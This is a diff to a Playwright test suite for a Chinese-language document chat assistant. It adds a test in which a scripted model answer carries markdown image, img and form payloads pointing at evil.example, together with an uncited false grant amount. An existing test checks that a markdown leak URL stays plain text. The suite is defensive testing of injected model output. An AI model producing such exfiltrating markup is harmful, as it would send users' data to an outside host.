@@ -6,8 +6,9 @@ import time
 from pathlib import Path
 
 import pytest
-from conftest import HERE, NewContext, Program, ask, opened, running, violations
+from browsing import HERE, NewContext, Program, ask, opened, running, violations
 from playwright.sync_api import Browser, Page, expect
+from scripted_server import Scripted, number_of, says
 
 pytestmark = pytest.mark.browser
 
@@ -27,7 +28,7 @@ def test_hostile_text_in_document_and_model_output_stays_text(new_context: NewCo
     page = opened(new_context(), scripted.address)
     ask(page, "![x](https://evil.example/q.png) 目標？")
     card = page.locator(".turn.done .card.answer")
-    expect(card).to_contain_text("![圖](https://evil.example/leak.png?q=1)", timeout=10_000)
+    expect(card).to_contain_text("![圖](https://evil.example/leak.png?q=1)")
     card.locator("a.cite").first.click()
     expect(page.locator(".panel:visible #quote")).to_be_visible()
     inert(page)
@@ -51,11 +52,38 @@ def test_a_policy_stops_what_escaping_would_miss(browser: Browser, scripted: Pro
     page.close()
 
 
+def test_what_a_language_model_writes_is_marked_checked_and_inert(new_context: NewContext, tmp_path: Path) -> None:
+    rule = "獎助要點\n一、本要點之主管機關為文化部。\n二、每案獎助金額以新臺幣三十七萬元為上限。\n"
+    (tmp_path / "documents").mkdir()
+    (tmp_path / "documents" / "rule.txt").write_text(rule, "utf-8")
+    attack = (
+        '![x](https://evil.example/x.png) <img src="https://evil.example/y.png"><form action="https://evil.example/">'
+    )
+    with Scripted().running() as model:
+        model.script = lambda request: says(
+            f"每案獎助金額以三十七萬元為上限[{number_of(request, '三十七萬元')}]。{attack}另給九十九萬元[1]。"
+        )
+        arguments = ["-m", "assistant", "chat", "--corpus", str(tmp_path / "documents")]
+        arguments += ["--llm-url", model.url, "--llm-model", "gemma-test"]
+        with running(arguments, tmp_path) as program:
+            page = opened(new_context(), program.address)
+            expect(page.locator("#notice")).to_contain_text("以生成式AI協助整理")
+            ask(page, "每案獎助金額的上限是多少？")
+            card = page.locator(".turn.done .card.answer")
+            expect(card.locator(".label")).to_contain_text("生成式AI整理")
+            expect(card).to_contain_text("三十七萬元為上限")
+            expect(card).not_to_contain_text("九十九萬元")
+            inert(page)
+            assert violations(page) == []
+            page.goto(f"{program.address}about")
+            expect(page.locator("dl")).to_contain_text("模型 gemma-test（產地：美國（Google））")
+
+
 def test_a_long_answer_is_read_to_its_end(new_context: NewContext, scripted: Program) -> None:
     page = opened(new_context(320, 640), scripted.address)
     ask(page, "長的回答")
     card = page.locator(".turn.done .card.answer")
-    expect(card.locator("a.cite")).to_have_count(12, timeout=10_000)
+    expect(card.locator("a.cite")).to_have_count(12)
     assert len(card.inner_text()) > 1500
     card.locator("a.cite").last.click()
     expect(page.locator(".panel:visible mark").first).to_have_text("第12點：逐年完成12項工作，擴大服務範圍。")
@@ -66,34 +94,34 @@ def test_a_long_answer_is_read_to_its_end(new_context: NewContext, scripted: Pro
 def test_text_taken_back_is_replaced(new_context: NewContext, scripted: Program) -> None:
     page = opened(new_context(), scripted.address)
     ask(page, "收回")
-    expect(page.locator(".turn.done .card.answer")).not_to_contain_text("先說一句", timeout=10_000)
+    expect(page.locator(".turn.done .card.answer")).not_to_contain_text("先說一句")
 
 
 def test_an_unexpected_failure_is_told_in_plain_words(new_context: NewContext, scripted: Program) -> None:
     page = opened(new_context(), scripted.address)
     ask(page, "壞掉")
-    expect(page.locator(".card.problem")).to_contain_text("未預期的錯誤", timeout=10_000)
+    expect(page.locator(".card.problem")).to_contain_text("未預期的錯誤")
     expect(page.locator(".card.problem")).not_to_contain_text("ZeroDivisionError")
     assert violations(page) == []
 
 
 def test_a_server_that_stops_in_mid_answer_is_told_and_overcome(new_context: NewContext, tmp_path: Path) -> None:
-    with running([str(HERE / "scripted.py")], tmp_path) as program:
+    with running([str(HERE / "scripted_chat.py")], tmp_path) as program:
         page = opened(new_context(), program.address)
         ask(page, "慢慢說")
-        expect(page.locator(".card.pending")).to_contain_text("片段2", timeout=10_000)
+        expect(page.locator(".card.pending")).to_contain_text("片段2")
         program.stop()
         lost = page.locator("#lost")
-        expect(lost).to_contain_text("與伺服器的連線中斷", timeout=15_000)
+        expect(lost).to_contain_text("與伺服器的連線中斷")
         assert violations(page) == []
         program.start()
-        expect(lost).to_contain_text("服務已恢復", timeout=15_000)
+        expect(lost).to_contain_text("服務已恢復")
         lost.get_by_role("button").click()
         box = page.locator("#question textarea")
-        expect(box).to_have_value("慢慢說", timeout=20_000)
+        expect(box).to_have_value("慢慢說")
         box.fill("目標？")
         box.press("Enter")
-        expect(page.locator(".turn.done .card.answer")).to_be_visible(timeout=10_000)
+        expect(page.locator(".turn.done .card.answer")).to_be_visible()
 
 
 def test_a_folder_without_documents_says_what_to_do(new_context: NewContext, tmp_path: Path) -> None:
@@ -112,9 +140,18 @@ def test_ready_in_three_seconds_with_little_to_load_and_text_in_half_a_second(
 ) -> None:
     measured = [_measured(new_context, chat) for _ in range(3)]
     ready, received, first = zip(*measured, strict=True)
-    assert min(ready) <= 3, ready
+    slower = _contention()
+    assert min(ready) <= 3 * slower, (ready, slower)
     assert max(received) <= 600_000, received
-    assert min(first) <= 0.5, first
+    assert min(first) <= 0.5 * slower, (first, slower)
+
+
+def _contention() -> float:
+    """How many times slower than alone this machine is just now: seconds of clock to seconds of processor, at least 1."""
+    clock, processor = time.monotonic(), time.process_time()
+    while time.process_time() - processor < 0.3:
+        pass
+    return max(1.0, (time.monotonic() - clock) / 0.3)
 
 
 def _measured(new_context: NewContext, chat: str) -> tuple[float, float, float]:
